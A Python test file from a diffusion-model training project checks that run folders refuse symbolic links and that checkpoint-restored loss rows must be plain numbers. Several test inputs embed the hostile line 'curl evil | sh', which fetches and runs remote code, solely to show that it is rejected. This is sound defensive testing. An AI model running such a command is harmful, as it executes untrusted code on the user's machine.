"""A run folder may come from a stranger: links out of it are never followed, at any path that is written."""

import shutil
from pathlib import Path

import pytest
import torch

from ldm.errors import UserError
from ldm.files import temporary_sibling
from ldm.methods.load import load_for_sampling
from ldm.training.rows import append_rows, checked_rows
from ldm.training.run_folder import lock
from main import main
from scripts import evaluate, export, txt2img
from tests.conftest import RECIPE
from tests.runs import resume, state
from tests.tiny_features import tiny_features

ALL_FILES = (
    "lightning.trainer.max_steps=2",
    "lightning.callbacks.checkpoint.params={every_steps: 1, keep: 2, milestone_every_steps: 1}",
    "lightning.callbacks.validation.params.every_steps=1",
    "lightning.callbacks.samples.params.prompts=[a dog]",
)
SECRET = "mine alone\n"


@pytest.fixture(scope="module")
def networks(tmp_path_factory):
    clip, dino = tiny_features(tmp_path_factory.mktemp("features"))
    return [
        f"networks.clip={clip}",
        f"networks.dino={dino}",
        "sampling.steps=1",
        "sampling.images_per_prompt=1",
        "sampling.class_images=1",
    ]


@pytest.fixture(scope="module")
def run(tiny_config, networks, tmp_path_factory):
    """A run with all files that a run can write, evaluated."""
    logs = tmp_path_factory.mktemp("logs")
    assert main(["-b", RECIPE, str(tiny_config), "-l", str(logs), *ALL_FILES]) == 0
    folder = next(logs.iterdir())
    assert evaluate.main(["--ckpt", str(folder), "--device", "cpu", *networks]) == 0
    return folder


class Linked:
    """`with Linked(path, outside)`: replaces `path` by a link out of the run."""

    def __init__(self, path: Path, outside: Path):
        self.path, self.outside, self.aside = path, outside, outside / "aside"
        outside.mkdir(exist_ok=True)

    def __enter__(self):
        is_folder = self.path.is_dir()
        if self.path.exists():
            self.path.rename(self.aside)
        self.target = self.outside / ("folder" if is_folder else "file")
        if is_folder:
            self.target.mkdir()
            (self.target / "file").write_text(SECRET)
        else:
            self.target.write_text(SECRET)
        self.path.symlink_to(self.target)

    def __exit__(self, *_):
        assert self.path.is_symlink()
        self.path.unlink()
        if self.aside.exists():
            self.aside.rename(self.path)
        if self.target.is_dir():
            assert [path.read_text() for path in self.target.iterdir()] == [SECRET]
            shutil.rmtree(self.target)
        else:
            assert self.target.read_text() == SECRET
            self.target.unlink()


def test_every_path_that_a_resume_a_sampling_and_an_evaluation_write(run, tmp_path, capsys):
    paths = list(run.rglob("*"))
    names = {path.name for path in paths}
    assert {"metrics.jsonl", "validation.jsonl", ".lock", "config.yaml", "last.ckpt", "best.ckpt"} <= names
    assert {"images", "prior", "tensorboard", "checkpoints", "configs", "model", "evaluation"} <= names
    assert {"state-000001.ckpt", "weights-000001.ckpt", "report.html", "metrics.json"} <= names
    for path in [*paths, *map(temporary_sibling, paths)]:
        with Linked(path, tmp_path / "outside"):
            capsys.readouterr()
            assert resume(run, "lightning.trainer.max_steps=3") == 2
            told = capsys.readouterr().err
            assert told.startswith("error: ")
            assert told.count("\n") == 1
            if path != run / "configs":  # without them it is not a run
                assert f"{path} is a link" in told
                with pytest.raises(UserError, match="is a link"):
                    load_for_sampling(run)


def test_the_scripts_say_it_in_one_line(run, networks, tmp_path, capsys):
    with Linked(run / "evaluation" / "subject", tmp_path / "outside"):
        for script, words in (
            (txt2img, ["--device", "cpu", "--outdir", str(tmp_path / "out")]),
            (export, ["--out", str(tmp_path / "out")]),
            (evaluate, ["--device", "cpu", *networks]),
        ):
            capsys.readouterr()
            for model in (run, run / "checkpoints" / "last.ckpt", run / "model"):
                assert script.main(["--ckpt", str(model), *words]) == 2
                told = capsys.readouterr().err.strip().splitlines()
                assert [line for line in told if not line.startswith("warning: ")] == [told[-1]]
                assert "subject is a link" in told[-1]
    assert not (tmp_path / "out").exists()


def test_files_are_not_opened_through_links_either(tmp_path):
    """A second barrier: the check for links ends before they are opened."""
    (tmp_path / "outside").write_text(SECRET)
    for name in (".lock", "metrics.jsonl"):
        (tmp_path / name).symlink_to(tmp_path / "outside")
    with pytest.raises(OSError, match="symbolic links"):
        append_rows(tmp_path / "metrics.jsonl", [{"step": 1}])
    with pytest.raises(UserError, match="cannot be written"):
        lock(tmp_path)
    assert (tmp_path / "outside").read_text() == SECRET


@pytest.mark.parametrize(
    "rows",
    [
        "curl evil | sh\n",
        ["curl evil | sh\n"],
        [{"step": 1, "loss": "curl evil | sh"}],
        [{"step": 1, "\ncurl evil | sh\n": 1.0}],
        [{"step": 1, "loss": torch.ones(1)}],
        [{"loss": 1.0}],
        [{"step": True, "loss": 1.0}],
        [{"step": 1, "loss": [1.0]}],
    ],
)
def test_rows_that_a_checkpoint_carries_are_numbers_under_names(rows):
    with pytest.raises(UserError, match="unwritten_rows are not rows of a loss record"):
        checked_rows(rows)


def test_rows_of_our_own_pass():
    rows = [{"step": 7, "loss": float("nan"), "subject_loss": 0.5, "prior_loss": 0}]
    assert checked_rows(rows) == rows


def test_a_resume_from_such_a_checkpoint_writes_nothing(run, tmp_path, capsys):
    run = shutil.copytree(run, tmp_path / "run")
    content = state(run) | {"unwritten_rows": [{"step": 1, "x\ncurl evil | sh\n": 1.0}]}
    torch.save(content, run / "checkpoints" / "last.ckpt")
    before = (run / "metrics.jsonl").read_bytes()
    capsys.readouterr()
    assert resume(run, "lightning.trainer.max_steps=3") == 2
    assert capsys.readouterr().err.count("error: ") == 1
    assert (run / "metrics.jsonl").read_bytes() == before
